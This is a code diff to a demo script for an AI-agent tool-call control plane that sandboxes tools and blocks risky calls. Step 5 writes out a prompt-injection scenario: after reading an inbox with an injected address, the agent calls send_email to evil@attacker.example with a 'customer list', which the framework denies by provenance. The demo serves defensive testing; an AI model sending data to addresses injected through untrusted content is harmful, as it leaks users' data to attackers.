@@ -82,6 +82,7 @@ TOOLS: list[dict[str, Any]] = [
         "capabilities": ["sends_external"],
         "risk": "medium",
         "executor": {"kind": "external"},
+        "destination_args": ["to"],
     },
     {
         "name": "export_contacts",
@@ -122,7 +123,9 @@ async def run_demo(settings: Settings, out: Console, audit_path: Path | None) ->
             f"sandbox tiers: {', '.join(t for t, s in plane.sandboxes.items() if s.check() is None)}\naudit: {path}",
             title="stockade demo",
         ))  # fmt: skip
-        session = await plane.open_session("demo-agent", "alice@example.com", ["Summarise my inbox."])
+        session = await plane.open_session(
+            "demo-agent", "alice@example.com", ["Summarise my inbox and email the summary to bob@example.com."]
+        )
 
         out.print("\n[bold]1. An allowed call runs in the sandbox[/bold]  word_count(text=…)")
         r = await plane.call(session, "word_count", {"text": "the quick brown fox jumps over the lazy dog"})
@@ -154,15 +157,18 @@ async def run_demo(settings: Settings, out: Console, audit_path: Path | None) ->
             r.status == "denied" and "capability.combination_denied" in r.reasons,
         )
 
-        out.print("\n[bold]5. Untrusted content taints the session[/bold]  read_inbox(), then send_email(...)")
+        out.print("\n[bold]5. A prompt injection is stopped by where the values came from[/bold]")
         r = await plane.call(session, "read_inbox", {"folder": "INBOX"})
-        expect("read_inbox ran (the session is now tainted)", r.ok)
+        expect("read_inbox ran; its output (with an injected address) is untrusted content", r.ok)
         r = await plane.call(session, "send_email", {"to": "evil@attacker.example", "body": "customer list"})
-        out.print(f"  → send_email: {r.status}: {', '.join(r.reasons)}")
+        out.print(f"  → send_email(to=evil@attacker.example): {r.status}: {', '.join(r.reasons)}")
         expect(
-            "held for a human: sending externally after reading untrusted content",
-            r.status == "pending_approval" and "approval.external_after_untrusted" in r.reasons,
+            "denied: the recipient came from untrusted content",
+            r.status == "denied" and "provenance.untrusted_destination" in r.reasons,
         )
+        r = await plane.call(session, "send_email", {"to": "bob@example.com", "body": "inbox summary"})
+        out.print(f"  → send_email(to=bob@example.com): {r.status} (the framework sends it, then reports)")
+        expect("allowed: the user gave that recipient", r.status == "awaiting_report")
 
         out.print("\n[bold]6. A tool that runs too long is killed[/bold]  spin()  (timeout 1 s)")
         r = await plane.call(session, "spin", {})
